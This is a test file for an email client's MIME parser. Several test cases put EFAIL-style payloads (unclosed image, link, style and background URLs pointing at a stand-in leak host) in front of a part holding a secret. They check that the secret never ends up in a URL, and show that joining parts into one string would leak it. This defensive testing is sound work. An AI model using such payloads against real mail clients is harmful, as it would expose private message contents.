// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { parseMessage } from './parse-message.ts';
import { showBody } from './shown-body.ts';

const encoder = new TextEncoder();

/** A multipart/<subtype> message of `parts` (each: its Content-Type and body). */
function multipart(subtype: string, parts: readonly (readonly [string, string])[]): Uint8Array {
  const lines = [
    'From: a@example.org',
    'To: b@example.org',
    'Subject: parts',
    'MIME-Version: 1.0',
    `Content-Type: multipart/${subtype}; boundary="b1"`,
    '',
  ];
  for (const [type, body] of parts) lines.push('--b1', `Content-Type: ${type}`, '', body);
  lines.push('--b1--', '');
  return encoder.encode(lines.join('\r\n'));
}

const HTML = 'text/html; charset=utf-8';
const PLAIN = 'text/plain; charset=utf-8';
const SECRET = 'the secret the attacker wants';

/** Every URL-bearing attribute value and the CSS of a frame's sanitized HTML, after the user allowed remote content. */
function urlsAfterConsent(html: string): string[] {
  const body = document.createElement('body');
  body.innerHTML = html;
  const values: string[] = [];
  for (const element of body.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      if (/^(src|href|xlink:href|background|poster|style)$/i.test(attribute.name))
        values.push(attribute.value);
    }
    if (element.localName === 'style') values.push(element.textContent ?? '');
  }
  return values;
}

async function framesOf(raw: Uint8Array): Promise<string[]> {
  const parsed = await parseMessage(raw);
  const shown = showBody(parsed.body, {
    inlineImages: new Map(),
    allowRemote: true,
    appOrigin: 'https://mail.example.org',
  });
  return shown.parts.flatMap((part) => (part.kind === 'frame' ? [part.sanitized.html] : []));
}

describe('the body, part by part', () => {
  // Each case: a first HTML part that leaves something open, and the next part holding the secret. Joined as
  // HTML, the secret would become part of what the first part opened; apart, it never can.
  it.each([
    ['an unclosed image URL (EFAIL)', '<img src="https://leak.example/?d=', [PLAIN, SECRET]],
    [
      'an unclosed image URL before another HTML part',
      "<img src='https://leak.example/?d=",
      [HTML, `<p>${SECRET}</p>`],
    ],
    ['an unclosed link', '<a href="https://leak.example/?d=', [HTML, `<b>${SECRET}</b>`]],
    ['an unclosed style block', '<style>body{background:url(https://leak.example/?d=', [HTML, SECRET]],
    [
      'an unclosed CSS url in a style attribute',
      '<div style="background:url(https://leak.example/?d=',
      [PLAIN, SECRET],
    ],
    ['an unclosed background attribute', '<table background="https://leak.example/?d=', [HTML, SECRET]],
  ] as const)('keeps the next part out of %s', async (_what, first, [type, second]) => {
    const raw = multipart('mixed', [
      [HTML, first],
      [type, second],
      [HTML, '<p>">end</p>'],
    ]);
    const frames = await framesOf(raw);
    for (const value of frames.flatMap(urlsAfterConsent)) expect(value).not.toContain('secret');
    const parsed = await parseMessage(raw);
    expect(parsed.body.map((part) => part.kind)).toEqual(['html', type === PLAIN ? 'text' : 'html', 'html']);
    const second_ = parsed.body[1];
    expect(second_?.kind === 'text' ? second_.text : second_?.kind === 'html' ? second_.html : '').toContain(
      SECRET,
    );
  });

  it('would have leaked through a joined string: postal-mime joins the same parts into one URL', async () => {
    const PostalMime = (await import('postal-mime')).default;
    const raw = multipart('mixed', [
      [HTML, '<img src="https://leak.example/?d='],
      [PLAIN, SECRET],
      [HTML, '">'],
    ]);
    const joined = (await PostalMime.parse(raw)).html ?? '';
    const body = document.createElement('body');
    body.innerHTML = joined;
    expect(body.querySelector('img')?.getAttribute('src')).toContain('secret');
  });

  it('shows one representation of a multipart/alternative: the HTML, with its text kept for a fallback', async () => {
    const parsed = await parseMessage(
      multipart('alternative', [
        [PLAIN, 'Plain version'],
        [HTML, '<p>HTML version</p>'],
      ]),
    );
    expect(parsed.body).toEqual([
      { kind: 'html', html: '<p>HTML version</p>\n', alternative: 'Plain version\n' },
    ]);
  });

  it('keeps text parts as text, in order, between HTML parts (Apple Mail writes such messages)', async () => {
    const parsed = await parseMessage(
      multipart('mixed', [
        [PLAIN, 'first'],
        [HTML, '<p>second</p>'],
        [PLAIN, 'third'],
      ]),
    );
    expect(parsed.body).toEqual([
      { kind: 'text', text: 'first\n' },
      { kind: 'html', html: '<p>second</p>\n', alternative: null },
      { kind: 'text', text: 'third\n' },
    ]);
  });

  it("shows an inline message's header, then its parts", async () => {
    const inner = [
      'From: Ann <ann@example.org>',
      'To: Bob <bob@example.org>',
      'Subject: Inner',
      'Date: Mon, 03 Nov 2025 08:00:00 +0000',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>inner body</p>',
    ].join('\r\n');
    const parsed = await parseMessage(
      multipart('mixed', [
        [PLAIN, 'Forwarded:'],
        ['message/rfc822', inner],
      ]),
    );
    expect(parsed.body).toEqual([
      { kind: 'text', text: 'Forwarded:\n' },
      {
        kind: 'message',
        subject: 'Inner',
        from: [{ name: 'Ann', address: 'ann@example.org' }],
        to: [{ name: 'Bob', address: 'bob@example.org' }],
        cc: [],
        date: '2025-11-03T08:00:00.000Z',
      },
      { kind: 'html', html: '<p>inner body</p>\n', alternative: null },
    ]);
  });

  it('reflows a format=flowed text part', async () => {
    const raw = encoder.encode(
      [
        'From: a@example.org',
        'Content-Type: text/plain; charset=utf-8; format=flowed',
        '',
        'one line that goes ',
        'on here',
        '',
      ].join('\r\n'),
    );
    expect((await parseMessage(raw)).body).toEqual([{ kind: 'text', text: 'one line that goes on here\n' }]);
  });
});
